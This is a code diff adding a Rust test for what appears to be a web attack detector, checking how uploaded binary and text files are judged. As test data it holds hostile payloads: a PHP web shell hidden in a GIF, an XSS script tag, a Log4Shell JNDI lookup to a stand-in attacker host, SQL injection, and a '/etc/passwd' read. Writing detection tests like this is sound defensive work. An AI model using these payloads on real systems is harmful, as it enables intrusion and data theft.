@@ -884,3 +884,63 @@ fn paranoia_levels() {
     });
     assert_eq!(d.config().paranoia, MAX_PARANOIA);
 }
+
+/// A multipart upload of `content` as `file.bin`, as raw bytes.
+fn upload(content: &[u8]) -> Vec<u8> {
+    let mut body =
+        b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"file.bin\"\r\n\
+Content-Type: application/octet-stream\r\n\r\n"
+            .to_vec();
+    body.extend_from_slice(content);
+    body.extend_from_slice(b"\r\n--XyZ--\r\n");
+    let mut req = format!(
+        "POST /upload HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: multipart/form-data; boundary=XyZ\r\n\
+Content-Length: {}\r\n\r\n",
+        body.len()
+    )
+    .into_bytes();
+    req.extend(body);
+    req
+}
+
+fn upload_rules(content: &[u8]) -> Vec<String> {
+    let mut d = Detector::new(DetectConfig::default());
+    let mut out = vec![];
+    for t in raw::transactions(&upload(content), OK.as_bytes()) {
+        d.push(&t, &mut |r| out.push(r));
+    }
+    attack(&out).map_or(vec![], |a| a.hits.into_iter().map(|h| h.rule).collect())
+}
+
+/// An uploaded file that is not text is data: a capture of someone's
+/// traffic holds internal URLs, quotes and shell words, and none of them is
+/// an attack on the upload. What processing a file runs is still found in
+/// one: PHP in an image, a script tag, a Log4j lookup in its metadata.
+#[test]
+fn binary_uploads_are_judged_as_files() {
+    let mut capture = vec![0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0];
+    capture.extend_from_slice(
+        b"\x45\x00\x01\x2cGET /a?id=1' or '1'='1 HTTP/1.1\r\nReferer: http://10.0.0.9/x\r\n\
+\x00\x00;cat /etc/passwd\x00http://169.254.169.254/\x00",
+    );
+    assert_eq!(upload_rules(&capture), Vec::<String>::new());
+    for (content, rule) in [
+        (
+            &b"GIF89a\x01\x00\x01\x00\x00\xff\x00,<?php system($_GET['c']); ?>"[..],
+            "php.open_tag",
+        ),
+        (
+            &b"GIF89a\x00\x00<script>alert(document.domain)</script>"[..],
+            "xss.script_tag",
+        ),
+        (
+            &b"\xff\xd8\xff\xe0\x00\x10JFIF\x00${jndi:ldap://evil.example/a}\x00"[..],
+            "log4shell.jndi",
+        ),
+    ] {
+        assert_eq!(upload_rules(content), vec![rule.to_string()], "{content:?}");
+    }
+    // A text file is judged as any value.
+    let text = upload_rules(b"name,comment\nann,1' or '1'='1\n");
+    assert!(text.iter().any(|r| r.starts_with("sqli.")), "{text:?}");
+}
